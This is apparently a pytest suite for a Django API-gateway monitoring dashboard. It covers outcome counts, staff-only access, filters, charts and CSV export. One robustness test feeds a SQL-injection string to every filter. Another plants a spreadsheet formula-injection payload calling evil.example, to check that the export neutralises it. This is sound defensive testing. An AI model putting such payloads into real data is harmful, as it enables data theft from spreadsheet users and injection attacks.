from __future__ import annotations

import re
from datetime import timedelta

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db


def kpis(html: str) -> dict[str, int]:
    return {k: int(v) for k, v in re.findall(r'data-outcome="(\w+)">(\d+)<', html)}


def test_it_counts_every_call_by_outcome(client, admin_user, burst):
    client.force_login(admin_user)
    html = client.get(reverse("monitoring-dashboard")).content.decode()
    figures = kpis(html)
    expected = {
        "total": 14,
        "success": 8,
        "unauthorized": 2,
        "throttled": 2,
        "quota": 0,
        "no_match": 1,
        "backend_error": 1,
    }
    assert {k: figures[k] for k in expected} == expected


def test_a_backends_4xx_answers_are_client_errors_apart_from_successes(client, admin_user, make_call, alice_sub):
    from gateway.models import Call

    for _ in range(3):
        make_call(alice_sub)
    for _ in range(2):
        make_call(alice_sub, Call.CLIENT_ERROR)
    client.force_login(admin_user)
    response = client.get(reverse("monitoring-dashboard"))
    html = response.content.decode()
    assert {k: v for k, v in kpis(html).items() if k in ("total", "success", "client_error")} == {
        "total": 5,
        "success": 3,
        "client_error": 2,
    }
    assert response.context["report"].total.success_rate == 60
    # The chart draws them in a colour of their own, named in its legend.
    assert 'fill="#0072B2"><title>Client error: 2</title>' in html
    assert ">Client error</text>" in html


def get(client, **params):
    return client.get(reverse("monitoring-dashboard"), params)


def test_it_is_for_staff_only(client, alice, burst):
    response = get(client)
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/?next=/monitoring/")
    client.force_login(alice)
    response = get(client)
    # A developer is told, not sent to a login form that would only refuse again.
    assert response.status_code == 403
    assert "This page is for staff" in response.content.decode()
    assert 'name="password"' not in response.content.decode()


def test_it_tables_calls_by_subscription_and_developer(client, admin_user, burst):
    client.force_login(admin_user)
    response = get(client)
    rows = {row.label: row.stats for row in response.context["report"].by_subscription}
    assert rows["Alice's app"].calls == 8
    assert rows["Alice's app"].errors == 3
    assert rows["Alice's app"].success_rate == 62.5
    assert rows["Bob's app"].calls == 3
    assert rows["No subscription (no valid key)"].calls == 3
    html = response.content.decode()
    assert "Alice&#x27;s app" in html and "alice · Starter" in html


def test_it_tables_calls_by_api_operation_and_product(client, admin_user, burst):
    client.force_login(admin_user)
    report = get(client).context["report"]
    assert [(r.label, r.stats.calls) for r in report.by_api] == [("AzureML Demo API", 14)]
    assert [(r.label, r.stats.calls) for r in report.by_operation] == [("RRS Execute", 13), ("No operation matched", 1)]
    assert [(r.label, r.stats.calls) for r in report.by_product] == [("Starter", 11), ("No product (no valid key)", 3)]
    assert report.total.bytes_in == 14 * 120 and report.total.bytes_out == 14 * 300


def test_it_filters_by_subscription_developer_and_outcome(client, admin_user, alice, alice_sub, burst):
    client.force_login(admin_user)
    html = get(client, subscription=alice_sub.pk).content.decode()
    assert kpis(html)["total"] == 8
    assert f'<option value="{alice_sub.pk}" selected>Alice&#x27;s app (alice, Starter)</option>' in html
    assert kpis(get(client, developer=alice.pk, outcome="throttled").content.decode())["total"] == 2
    html = get(client, outcome="unauthorized").content.decode()
    assert kpis(html)["total"] == 2 and kpis(html)["success"] == 0


def test_it_leaves_out_calls_outside_the_range(client, admin_user, make_call, alice_sub):
    make_call(alice_sub, ago=timedelta(minutes=30))
    make_call(alice_sub, ago=timedelta(hours=3))
    make_call(alice_sub, ago=timedelta(days=3))
    client.force_login(admin_user)
    assert kpis(get(client, range="1h").content.decode())["total"] == 1
    assert kpis(get(client, range="24h").content.decode())["total"] == 2
    assert kpis(get(client, range="7d").content.decode())["total"] == 3


def test_it_shows_the_latest_calls_newest_first_with_links_to_their_record(client, admin_user, burst):
    client.force_login(admin_user)
    response = get(client)
    latest = response.context["report"].latest
    assert len(latest) == 14
    assert latest[0].created >= latest[-1].created
    assert reverse("monitoring-call", args=[latest[0].pk]) in response.content.decode()


@pytest.mark.parametrize(
    "params, field, message",
    [
        ({"api": "999"}, "api", "Select a valid choice"),
        ({"subscription": "nope"}, "subscription", "Select a valid choice"),
        ({"outcome": "exploded"}, "outcome", "Select a valid choice"),
        ({"range": "forever"}, "range", "Select a valid choice"),
        (
            {"range": "custom", "start": "2026-03-02T10:00", "end": "2026-03-01T10:00"},
            "end",
            "The end must be after the start.",
        ),
        ({"range": "custom", "start": "2025-01-01T00:00", "end": "2026-01-01T00:00"}, "end", "at most 92 days"),
        ({"range": "custom"}, "start", "Give the start of the custom range."),
        (
            {"range": "custom", "start": "9999-12-30T00:00", "end": "9999-12-31T23:59"},
            "end",
            "Pick dates between 2000 and 2999.",
        ),
        ({"range": "custom", "start": "0001-01-01T00:00", "end": "0001-01-02T00:00"}, "start", "Pick dates between"),
        ({"range": "custom", "start": "yesterday"}, "start", "Enter a valid date/time."),
    ],
)
def test_it_explains_bad_input_on_the_field(client, admin_user, burst, params, field, message):
    client.force_login(admin_user)
    response = get(client, **params)
    assert response.status_code == 200
    assert message in " ".join(response.context["form"].errors[field])
    html = response.content.decode()
    assert f'id="id_{field}-errors"' in html
    assert "report" not in response.context


def test_it_refuses_an_operation_of_another_api(client, admin_user, demo_api):
    from apis.models import Api

    other = Api.objects.create(name="Other", path="other", service_url="http://example.com")
    operation = demo_api.operations.first()
    client.force_login(admin_user)
    response = get(client, api=other.pk, operation=operation.pk)
    assert "is not part of Other" in response.context["form"].errors["operation"][0]


def test_it_swaps_only_the_results_for_htmx(client, admin_user, burst):
    client.force_login(admin_user)
    response = client.get(reverse("monitoring-dashboard"), {"range": "1h"}, headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="monitoring"')
    assert "<html" not in html
    assert kpis(html)["total"] == 14


def test_it_draws_charts_with_axes_units_legends_and_tables(client, admin_user, burst):
    client.force_login(admin_user)
    html = get(client, range="1h").content.decode()
    assert html.count("<svg") == 3
    for text in (
        "calls per minute",
        "response time (ms)",
        "B per minute",
        "Success",
        "Throttled",
        "backend p95",
        "out (responses)",
    ):
        assert text in html
    assert "Calls over time as a table" in html


def test_it_exports_what_is_shown_as_csv(client, admin_user, burst):
    client.force_login(admin_user)
    response = client.get(reverse("monitoring-export"), {"range": "24h", "developer": burst[0].user_id})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert text.count("\nlatest calls,") == 9  # a header and alice's 8 calls
    assert "by subscription,Alice's app,alice · Starter,8,62.5,3," in text


def test_it_refuses_a_csv_of_bad_input(client, admin_user):
    client.force_login(admin_user)
    response = client.get(reverse("monitoring-export"), {"api": "x"})
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()


def test_it_shows_a_call_record(client, admin_user, burst):
    client.force_login(admin_user)
    call = burst[-4]
    html = client.get(reverse("monitoring-call", args=[call.pk])).content.decode()
    assert call.request_id in html and "Bob&#x27;s app" in html and "30.0 ms" in html
    assert client.get(reverse("monitoring-call", args=[10**9])).status_code == 404


def test_it_is_linked_from_the_header_and_the_admin(client, admin_user):
    client.force_login(admin_user)
    html = get(client).content.decode()
    assert f'href="{reverse("monitoring-dashboard")}" aria-current="page">Monitoring<' in html
    assert "Monitoring dashboard" in client.get(reverse("admin:index")).content.decode()
    response = client.get(reverse("admin:monitoring_dashboard_changelist"))
    assert response.status_code == 302 and response["Location"] == reverse("monitoring-dashboard")


def test_it_shows_the_console_history_entry_of_a_call_sent_from_the_console(
    client, admin_user, alice, make_call, alice_sub
):
    from django.apps import apps

    if not apps.is_installed("console"):
        pytest.skip("the console app is not installed")
    send_model = apps.get_model("console", "Send")
    call = make_call(alice_sub)
    send_model.objects.create(
        user=alice,
        operation=call.operation,
        method="POST",
        url="http://testserver/gateway/azureml-demo/x",
        status=200,
        reason="OK",
        elapsed_ms=21.5,
        size=300,
        request_id=call.request_id,
    )
    other = make_call(alice_sub)
    client.force_login(admin_user)
    html = client.get(reverse("monitoring-call", args=[call.pk])).content.decode()
    assert "Sent from the Try It console" in html and "http://testserver/gateway/azureml-demo/x" in html
    assert "21.5 ms as the console measured it" in html
    assert (
        "Sent from the Try It console" not in client.get(reverse("monitoring-call", args=[other.pk])).content.decode()
    )


@pytest.mark.parametrize("value", ["", "0", "-1", "1.5", "x" * 500, "\x00", "99999999999999999999999", "' OR 1=1 --"])
def test_it_never_fails_on_garbage(client, admin_user, demo_api, value):
    client.force_login(admin_user)
    for name in ("range", "start", "end", "api", "operation", "product", "subscription", "developer", "outcome"):
        assert get(client, **{name: value}).status_code == 200, name
        assert client.get(reverse("monitoring-export"), {name: value}).status_code in (200, 400), name


def test_the_csv_keeps_names_developers_typed_from_running_as_formulas(client, admin_user, make_call, alice_sub):
    alice_sub.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    alice_sub.save()
    make_call(alice_sub)
    client.force_login(admin_user)
    text = client.get(reverse("monitoring-export"), {"range": "24h"}).content.decode()
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
